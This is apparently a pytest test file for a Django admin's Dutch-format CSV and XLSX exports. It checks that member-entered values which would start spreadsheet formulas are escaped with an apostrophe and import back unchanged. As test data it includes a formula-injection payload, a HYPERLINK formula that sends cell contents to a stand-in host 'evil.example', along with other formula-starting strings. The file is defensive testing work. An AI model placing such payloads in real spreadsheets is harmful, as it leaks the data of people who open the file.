"""Every export of the app opened the way Excel opens it: the CSV with the csv module as Dutch
Excel reads it (UTF-8 with BOM, ";"), the XLSX with openpyxl. No cell a member can fill in may
start a formula; headers are Dutch; booleans read ja/nee; times are Amsterdam local time to the
second (real date-time cells in XLSX)."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from import_export.admin import ExportMixin, ImportMixin

from events.models import Registration
from members.models import Person
from tests.events.staff_factories import EventFactory, RegistrationFactory
from tests.factories import MemberFactory, MunicipalityFactory
from vzhg.exports import DutchCSV, SafeXLSX, cell_text_escape, cell_text_unescape, cell_value

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
# A moment with microseconds, in summer (Amsterdam is UTC+2): 10:15:30 UTC is 12:15:30 there.
REGISTERED_AT = datetime.datetime(2026, 7, 1, 10, 15, 30, 123456, tzinfo=datetime.UTC)
REGISTERED_LOCAL = datetime.datetime(2026, 7, 1, 12, 15, 30)

PEOPLE_HEADER = [
    "voornaam", "tussenvoegsel", "achternaam", "e-mailadres", "telefoonnummer", "organisatie",
    "functie", "functienaam",
]  # fmt: skip
REGISTRATION_HEADER = [
    "bijeenkomst", "voornaam", "tussenvoegsel", "achternaam", "e-mailadres", "functie",
    "organisatie", "status", "workshops", "opmerkingen", "aanwezig", "aangemeld op",
]  # fmt: skip


@pytest.fixture
def hostile_registration():
    """A member who filled every free field with something Excel would run."""
    person = MemberFactory(
        first_name=HYPERLINK,
        tussenvoegsel="\tvan",
        last_name="@SUM(A1:A9)",
        phone="+31 6 1234 5678",
        job_title="-2+3",
        organisation=MunicipalityFactory(name="@Delft"),
    )
    event = EventFactory(title="+Congres & Co")
    registration = RegistrationFactory(event=event, person=person, remarks="\r-geen vlees", attended=True)
    Registration.objects.filter(pk=registration.pk).update(created_at=REGISTERED_AT)
    RegistrationFactory(event=event, remarks="", attended=False)
    return registration


# Every export the admin offers: (model admin's model, export URL, expected Dutch header).
EXPORTS = {
    Person: ("admin:members_person_export", PEOPLE_HEADER),
    Registration: ("admin:events_registration_export", REGISTRATION_HEADER),
}


def test_every_export_is_covered_and_uses_the_safe_formats():
    """A new export in the admin fails here until it uses vzhg.exports and is tested below."""
    exporting = {
        model for model, model_admin in admin.site._registry.items() if isinstance(model_admin, ExportMixin)
    }
    assert exporting == set(EXPORTS)
    for model in exporting:
        model_admin = admin.site._registry[model]
        assert list(model_admin.export_formats) == [DutchCSV, SafeXLSX]
        if isinstance(model_admin, ImportMixin):
            assert list(model_admin.import_formats) == [DutchCSV, SafeXLSX]


def _export(client, model, fmt: str):
    url_name, _header = EXPORTS[model]
    response = client.post(reverse(url_name), {"format": fmt, "resource": "0"})
    assert response.status_code == 200, response.content[:300]
    return response


def _csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark for Excel"
    text = response.content.decode("utf-8")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def _xlsx_rows(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("model", list(EXPORTS), ids=lambda m: m._meta.label)
def test_csv_export_is_safe_dutch_excel_csv(admin_client, hostile_registration, model):
    rows = _csv_rows(_export(admin_client, model, "0"))
    header, *body = rows
    assert header == EXPORTS[model][1]
    assert all(len(row) == len(header) for row in body), "one column per field, split on ';'"
    cells = [cell for row in body for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "True" not in cells and "False" not in cells
    row = next(row for row in body if cell_text_escape(HYPERLINK) in row)
    by_column = dict(zip(header, row, strict=True))
    assert by_column["voornaam"] == "'" + HYPERLINK
    assert by_column["tussenvoegsel"] == "'\tvan"
    assert by_column["achternaam"] == "'@SUM(A1:A9)"
    assert by_column["organisatie"] == "'@Delft"
    if model is Person:
        assert by_column["telefoonnummer"] == "'+31 6 1234 5678"
        assert by_column["functienaam"] == "'-2+3"
    else:
        assert by_column["bijeenkomst"] == "'+Congres & Co"
        assert by_column["opmerkingen"] == "'\r-geen vlees"
        assert by_column["aanwezig"] == "ja"
        assert by_column["aangemeld op"] == "01-07-2026 12:15:30"
        assert {r[header.index("aanwezig")] for r in body} == {"ja", "nee"}


@pytest.mark.parametrize("model", list(EXPORTS), ids=lambda m: m._meta.label)
def test_xlsx_export_writes_text_as_strings_and_times_as_dates(admin_client, hostile_registration, model):
    header, *body = _xlsx_rows(_export(admin_client, model, "1"))
    assert [cell.value for cell in header] == EXPORTS[model][1]
    for cell in (cell for row in body for cell in row):
        if isinstance(cell.value, str):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value)
        assert cell.value not in (True, False)
    names = [cell.value for cell in header]
    row = next(r for r in body if r[names.index("voornaam")].value == "'" + HYPERLINK)
    by_column = {name: cell.value for name, cell in zip(names, row, strict=True)}
    assert by_column["achternaam"] == "'@SUM(A1:A9)"
    if model is Person:
        assert by_column["telefoonnummer"] == "'+31 6 1234 5678"
    else:
        assert by_column["opmerkingen"].startswith("'") and by_column["opmerkingen"].endswith("-geen vlees")
        assert by_column["aanwezig"] == "ja"
        registered = by_column["aangemeld op"]
        assert isinstance(registered, datetime.datetime)
        assert registered == REGISTERED_LOCAL and registered.tzinfo is None


def test_exported_people_with_escaped_cells_import_back_unchanged(admin_client, hostile_registration):
    for fmt, name in (("0", "export.csv"), ("1", "export.xlsx")):
        exported = _export(admin_client, Person, fmt).content
        response = admin_client.post(
            reverse("admin:members_person_import"),
            {"resource": "0", "format": fmt, "import_file": SimpleUploadedFile(name, exported)},
        )
        assert response.status_code == 200
        result = response.context["result"]
        assert not result.invalid_rows and not result.has_errors()
        assert {row.import_type for row in result.valid_rows()} == {"skip"}
    person = hostile_registration.person
    person.refresh_from_db()
    assert person.phone == "+31 6 1234 5678" and person.first_name == HYPERLINK


def test_semicolon_csv_with_dutch_headers_imports(admin_client, db):
    organisation = MunicipalityFactory(name="Leiden")
    content = (
        "\ufeffvoornaam;achternaam;e-mailadres;telefoonnummer;organisatie\r\n"
        "Eva;Jansen;eva@leiden.nl;'+31 71 516 5165;Leiden\r\n"
    )
    response = admin_client.post(
        reverse("admin:members_person_import"),
        {"resource": "0", "format": "0", "import_file": SimpleUploadedFile("n.csv", content.encode())},
    )
    assert not response.context["result"].invalid_rows
    admin_client.post(
        reverse("admin:members_person_process_import"), response.context["confirm_form"].initial
    )
    person = Person.objects.get(email="eva@leiden.nl")
    assert (person.first_name, person.phone, person.organisation) == ("Eva", "+31 71 516 5165", organisation)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+31", "'+31"),
        ("-5", "'-5"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Den Haag", "Den Haag"),
        (True, "ja"),
        (False, "nee"),
        (None, ""),
        (-5, -5),
        (REGISTERED_AT, REGISTERED_LOCAL),
        (datetime.date(2026, 12, 7), datetime.date(2026, 12, 7)),
    ],
)
def test_cell_value(value, cell):
    from django.utils import translation

    with translation.override("nl"):
        assert cell_value(value) == cell
    if isinstance(value, str):
        assert cell_text_unescape(cell_value(value)) == value
